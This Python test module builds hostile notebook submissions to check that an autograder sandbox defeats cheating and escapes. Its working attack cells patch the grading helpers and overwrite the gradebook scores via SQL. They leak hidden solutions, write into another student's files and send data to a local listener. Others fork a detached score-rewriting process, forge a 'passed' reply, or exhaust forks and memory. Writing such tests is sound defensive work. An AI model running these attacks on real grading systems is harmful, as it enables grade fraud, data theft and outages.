"""The adversarial corpus: submissions a hostile student could hand in, and what each must score.

Each attack builds a notebook from the assignment's solution (honest answers) or its released student
notebook (no answers), adds or changes cells, and states which autograded parts it attacks: those must
score 0, every other part its honest score. ``GENERIC`` attacks work on any assignment (they attack the
grader, not a part); ``FX`` attacks target parts of the fixture assignment ``fx``.

``ctx`` gives the attacks what a determined student might know or guess: the absolute paths of the course,
its gradebook, solutions/ and another student's submission, a port on 127.0.0.1 a test listener is
bound to, and a marker to find left-over processes by.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell

from .course import cell_by_id, gid


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable          # (solution_nb, blank_nb, ctx) -> notebook | str (raw file text)
    attacked: object         # set of grade_ids that must score 0, "all", or "ungraded" (nbgrader rejects the file)
    what: str
    # The attack adds cells with dynamic code (globals, getattr, builtins ...): the by-hand scan cannot tell
    # what such a cell does for a by-hand answer, so the assignment's BY_HAND parts earn 0 too.
    by_hand_too: bool = False


def _lit(path: str) -> str:
    """A Python expression for ``path`` that does not spell it (the student's own source is shown in the
    feedback; a literal path there would hide a real leak of that path from the feedback checks)."""
    return f"{path[::-1]!r}[::-1]"


def _with_cells(nb, cells, at=None):
    nb = copy.deepcopy(nb)
    new = [new_code_cell(src) for src in cells]
    if at is None:
        nb.cells += new
    else:
        idx = next((i for i, c in enumerate(nb.cells) if gid(c) == at),
                   next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")) + 1
        nb.cells[idx:idx] = new
    return nb


def _replace(nb, grade_id, old, new):
    nb = copy.deepcopy(nb)
    cell = cell_by_id(nb, grade_id)
    assert old in cell.source, (grade_id, old)
    cell.source = cell.source.replace(old, new)
    return nb


# ------------------------------------------------------------------------------------------------
# Attacks on the grader itself (any assignment)
# ------------------------------------------------------------------------------------------------

TRANSFORMER = """\
# An input transformer that turns every later cell (the test cells) into `pass`.
for ip in (globals().get("get_ipython", lambda: None)(), getattr(globals().get("exit"), "_ip", None)):
    try:
        ip.input_transformers_post.append(lambda lines: ["pass\\n"])
    except AttributeError:
        pass
"""

FAKE_G = """\
class _Pass:
    def __getattr__(self, name):
        return lambda *a, **k: None
G = _Pass()
try:
    import ffgrader.student as _S
    for _n in dir(_S):
        if not _n.startswith("__"):
            setattr(_S, _n, lambda *a, **k: None)
    import ffgrader.checks as _C
    for _n in ("expect_array", "expect_scalar", "expect_equal", "expect_expr", "call", "check"):
        setattr(_C, _n, lambda *a, **k: None)
    _C.Fail = type("Fail", (Exception,), {})
except Exception:
    pass
"""

REBIND = """\
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
import builtins
builtins.isinstance = lambda *a: True
"""


def print_hidden(ctx):
    return f"""\
import glob, os
for pattern in ["*.ipynb", "../**/*.ipynb", "/**/checks.py", {_lit(ctx['solutions'])} + "/**/*"]:
    for p in glob.glob(pattern, recursive=True)[:20]:
        try:
            print(p, open(p).read()[:2000])
        except OSError:
            pass
print(globals().get("In", "no In"))
for name in list(globals()):
    print(name)
raise ValueError(str(globals().get("In", "")) + str(os.listdir("/")))
"""


def fs_escape(ctx):
    return f"""\
import os, sqlite3, shutil, glob
targets = [{", ".join(_lit(p) for p in (ctx["gradebook"], ctx["victim_nb"], ctx["victim_autograded"],
                                         ctx["solutions"] + "/x.py", ctx["checks"],
                                         ctx["course"] + "/nbgrader_config.py"))}]
for t in targets:
    for mode in ("a", "w"):
        try:
            open(t, mode).write("pwned")
        except OSError as e:
            print("no", t, type(e).__name__)
try:
    con = sqlite3.connect(targets[0])
    con.execute("UPDATE grade SET auto_score = 100")
    con.execute("UPDATE source_cell SET source = 'pass'")
    con.commit()
except Exception as e:
    print("no gradebook:", type(e).__name__)
for up in ("..", "../..", "../../..", "/proc/1/root", "/proc/self/root/.."):
    try:
        print(up, os.listdir(up)[:10])
    except OSError as e:
        print(up, type(e).__name__)
for d in glob.glob("/**/gradebook.db", recursive=True)[:5]:
    print("found", d)
"""


def network(ctx):
    return f"""\
import socket
for family, addr in ((socket.AF_INET, ("127.0.0.1", {ctx["port"]})), (socket.AF_INET, ("localhost", {ctx["port"]}))):
    s = socket.socket(family)
    s.settimeout(2)
    try:
        s.connect(addr)
        s.sendall(b"stolen")
        print("connected")
    except OSError as e:
        print("no network:", type(e).__name__)
"""


def detached(ctx):
    return f"""\
import os, subprocess, time
gradebook = {_lit(ctx["gradebook"])}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)  # wait for nbgrader to exit, then rewrite the score
        try:
            import sqlite3
            sqlite3.connect(gradebook).execute("UPDATE grade SET auto_score = 100").connection.commit()
        except Exception:
            pass
        os.execv("/usr/bin/sleep", ["sleep", "{ctx["marker"]}"])
    os._exit(0)
subprocess.Popen(["/usr/bin/sleep", "{ctx["marker"]}"], start_new_session=True)
"""


SIGINT_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
EXIT = "import os\nos._exit(0)\n"
IPY_EXIT = "exit()\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
MEMORY = "hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))\n"
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
HUGE_OUTPUT = "for _ in range(200):\n    print('x' * 250_000)\n"
FORGED_REPLY = """\
import os, sys, json, struct
fake = json.dumps({"id": 1, "ok": True, "stdout": "[all] passed", "stderr": ""}).encode()
try:
    os.write(int(sys.argv[2]), struct.pack(">I", len(fake)) + fake)
except Exception:
    pass
"""


def _tamper_metadata(blank, solution):
    """Answers left blank, but: test cells turned into manually graded answers, points raised, a bonus grade
    cell invented, the locked test cells replaced by `pass` with a matching checksum."""
    from nbgrader.utils import compute_checksum

    nb = copy.deepcopy(blank)
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
             and not c.metadata.nbgrader.get("solution")]
    for k, c in enumerate(tests):
        c.source = "pass"
        if k % 2 == 0:
            c.metadata.nbgrader["solution"] = True
        c.metadata.nbgrader["points"] = 100
        c.metadata.nbgrader["checksum"] = compute_checksum(c)
    bonus = new_code_cell("pass", metadata={"nbgrader": {"grade": True, "grade_id": "bonus", "locked": True,
                                                         "points": 50, "schema_version": 3, "solution": False,
                                                         "task": False}})
    nb.cells.append(bonus)
    junk = new_code_cell("pass", metadata={"nbgrader": "not a dict"})
    nb.cells.append(junk)
    return nb


def _delete_tests(blank, solution):
    nb = copy.deepcopy(blank)
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
                                            and not c.metadata.nbgrader.get("solution"))]
    return nb


GENERIC = [
    Attack("transformer", lambda sol, blank, ctx: _with_cells(blank, [TRANSFORMER], at="imports"), "all",
           "an IPython input transformer that blanks the test cells"),
    Attack("fake_g", lambda sol, blank, ctx: _with_cells(blank, [FAKE_G], at="imports"), "all",
           "a fake G and patched grading helpers"),
    Attack("rebind", lambda sol, blank, ctx: _with_cells(blank, [REBIND], at="imports"), "all",
           "numpy comparisons and builtins rebound"),
    Attack("tamper_metadata", lambda sol, blank, ctx: _tamper_metadata(blank, sol), "all",
           "test cells turned manual/pass with valid checksums, points raised, a bonus cell"),
    Attack("delete_tests", lambda sol, blank, ctx: _delete_tests(blank, sol), "all", "every test cell deleted"),
    Attack("print_hidden", lambda sol, blank, ctx: _with_cells(sol, [print_hidden(ctx)]), set(),
           "prints notebooks, checks files, In and globals into the feedback", by_hand_too=True),
    Attack("fs_escape", lambda sol, blank, ctx: _with_cells(sol, [fs_escape(ctx)], at="imports"), set(),
           "writes the gradebook, solutions/, another student's files; UPDATE grade"),
    Attack("network", lambda sol, blank, ctx: _with_cells(sol, [network(ctx)], at="imports"), set(),
           "connects to a listener on the host's 127.0.0.1"),
    Attack("detached", lambda sol, blank, ctx: _with_cells(sol, [detached(ctx)], at="imports"), set(),
           "a detached process that outlives the grading to rewrite the score"),
    Attack("sigint_loop", lambda sol, blank, ctx: _with_cells(sol, [SIGINT_LOOP], at="imports"), set(),
           "ignores SIGINT and loops"),
    Attack("exit", lambda sol, blank, ctx: _with_cells(sol, [EXIT], at="imports"), set(), "os._exit(0)"),
    Attack("ipy_exit", lambda sol, blank, ctx: _with_cells(sol, [IPY_EXIT], at="imports"), set(), "exit()"),
    Attack("segfault", lambda sol, blank, ctx: _with_cells(sol, [SEGFAULT]), set(), "a ctypes segfault"),
    Attack("memory", lambda sol, blank, ctx: _with_cells(sol, [MEMORY], at="imports"), set(), "grows memory"),
    Attack("fork_bomb", lambda sol, blank, ctx: _with_cells(sol, [FORK_BOMB]), set(), "a fork bomb"),
    Attack("huge_output", lambda sol, blank, ctx: _with_cells(sol, [HUGE_OUTPUT]), set(), "50 MB of prints"),
    Attack("forged_reply", lambda sol, blank, ctx: _with_cells(blank, [FORGED_REPLY], at="imports"), "all",
           "writes a fake 'passed' reply into the protocol pipe"),
    Attack("malformed", lambda sol, blank, ctx: json.dumps(nbformat.v4.new_notebook())[:-20], "ungraded",
           "a truncated notebook file"),
    Attack("not_a_notebook", lambda sol, blank, ctx: '{"cells": "rm -rf /", "nbformat": 4}', "ungraded",
           "JSON that is not a notebook"),
]


# All the escapes and crashes of GENERIC in one submission (a cheaper run on every real assignment).
ESCAPES = Attack("escapes", lambda sol, blank, ctx: _with_cells(
    sol, [fs_escape(ctx), network(ctx), detached(ctx), EXIT, SEGFAULT, print_hidden(ctx)], at="imports"), set(),
    "filesystem, gradebook, network and detached-process escapes, os._exit, a segfault, printing hidden tests",
    by_hand_too=True)


# ------------------------------------------------------------------------------------------------
# Attacks on the parts of the fixture assignment fx
# ------------------------------------------------------------------------------------------------

LIARS = """\
import numpy as np
class Liar(float):
    def __eq__(self, other):
        return True
    def __float__(self):
        import inspect
        for f in inspect.stack():
            for v in f.frame.f_locals.values():
                if type(v) is float:
                    return v
        return 0.0
class LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, *a, **k):
        return NotImplemented
def total(x):
    return Liar(0.0)
"""

DELEGATE = """\
def double(x):
    import importlib.util
    for path in [{paths}]:
        try:
            spec = importlib.util.spec_from_file_location("c", path)
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
        except Exception:
            pass
    try:
        from nnlib import activations as _A  # the reference library is not importable here
        return _A.identity(x)
    except ImportError:
        pass
    return 3.0 * x
"""

BYHAND_GETATTR = "z = sp.Symbol('z')\n\ndef dexp():\n    return getattr(sp, 'di' + 'ff')(sp.exp(z**2), z)\n"
HELPER_CALC = "import sympy as sp\n_h = sp.Derivative(sp.exp(sp.Symbol('z')**2), sp.Symbol('z')).doit()\n"
HELPER_USE = "z = sp.Symbol('z')\n\ndef dexp():\n    return _h\n"

HANG_CALL = "def total(x):\n    while True:\n        pass\n"
CRASH_CALL = "def double(x):\n    import os\n    os._exit(1)\n"
ANSWER_ERROR = "def double(x):\n    return 3.0 * x\nraise SystemExit('stop grading')\n"


def _set(nb, grade_id, source):
    nb = copy.deepcopy(nb)
    cell_by_id(nb, grade_id).source = source
    return nb


FX = [
    Attack("liars", lambda sol, blank, ctx: _set(sol, "answer_3", LIARS), {"test_3"},
           "a float subclass whose == and float() lie"),
    Attack("liar_array", lambda sol, blank, ctx: _set(sol, "answer_1", LIARS + "def double(x):\n    "
                                                    "return (3.0 * x).view(LiarArray)\n"), {"test_1"},
           "an ndarray subclass whose == says True, with wrong data"),
    Attack("delegate", lambda sol, blank, ctx: _set(sol, "answer_1", DELEGATE.format(paths=_lit(ctx["checks"]) + ", 'checks.py'")),
           {"test_1"}, "loads the instructor's checks / nnlib's reference inside the answer"),
    Attack("rebind_wrong", lambda sol, blank, ctx: _with_cells(_set(sol, "answer_1", "def double(x):\n"
                                                                                   "    return 3.0 * x\n"),
                                                              [REBIND, FAKE_G], at="answer_1"),
           {"test_1"}, "a wrong answer plus every helper rebound", by_hand_too=True),
    Attack("byhand_getattr", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_GETATTR), {"test_2"},
           "sp.diff through getattr and a built string"),
    Attack("byhand_helper", lambda sol, blank, ctx: _with_cells(_set(sol, "answer_2", HELPER_USE), [HELPER_CALC],
                                                               at="imports"), {"test_2"},
           "Derivative(...).doit() in a cell the student added"),
    Attack("hang_call", lambda sol, blank, ctx: _set(sol, "answer_3", HANG_CALL), {"test_3"},
           "total hangs when the grader calls it"),
    Attack("crash_call", lambda sol, blank, ctx: _set(sol, "answer_1", CRASH_CALL), {"test_1"},
           "double kills the worker when called"),
    Attack("answer_exits", lambda sol, blank, ctx: _set(sol, "answer_1", ANSWER_ERROR), {"test_1"},
           "a wrong answer cell that raises SystemExit"),
]
